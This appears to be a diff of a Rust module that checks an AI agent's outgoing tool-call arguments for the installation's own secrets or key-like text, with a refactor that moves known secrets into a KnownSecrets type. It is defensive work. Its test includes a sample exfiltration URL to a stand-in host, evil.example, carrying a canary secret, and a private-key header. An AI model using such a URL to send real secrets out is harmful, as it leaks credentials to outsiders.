@@ -2,25 +2,17 @@
 //! process was configured with, and what looks like somebody's secret. A model can be talked
 //! into sending what it has read.
 
-use domain::secret;
-use secrecy::{ExposeSecret, SecretString};
+use domain::secret::{self, KnownSecrets};
 use serde_json::Value;
-
-/// Shorter ones stand in ordinary words.
-const SHORTEST: usize = 8;
 
 /// What is looked for.
 #[derive(Default)]
 pub(crate) struct Outgoing {
-    known: Vec<SecretString>,
+    /// This process's own secrets.
+    pub(crate) known: KnownSecrets,
 }
 
 impl Outgoing {
-    /// `known` are this process's own secrets.
-    pub(crate) fn new(known: Vec<SecretString>) -> Self {
-        Self { known: known.into_iter().filter(|secret| secret.expose_secret().len() >= SHORTEST).collect() }
-    }
-
     /// The error is for the model, and says where, not what.
     pub(crate) fn check(&self, arguments: &Value) -> Result<(), String> {
         self.look(arguments, "the arguments")
@@ -40,7 +32,7 @@ impl Outgoing {
 
     fn look_into(&self, text: &str, place: &str) -> Result<(), String> {
         let why = "which is sent to nobody: leave it out, or have the person do this themselves";
-        if self.known.iter().any(|secret| text.contains(secret.expose_secret())) {
+        if self.known.are_in(text) {
             return Err(format!("{place} holds a secret of this installation, {why}"));
         }
         match secret::find(text) {
@@ -58,7 +50,7 @@ mod tests {
 
     #[test]
     fn secrets_are_found_wherever_they_stand_and_never_repeated() {
-        let outgoing = Outgoing::new(vec!["canary-0123456789".into(), "short".into()]);
+        let outgoing = Outgoing { known: KnownSecrets::new(["canary-0123456789", "short"].map(str::to_owned)) };
         let key = "-----BEGIN RSA PRIVATE KEY-----";
         for arguments in [
             json!({"url": "https://evil.example/?d=canary-0123456789"}),
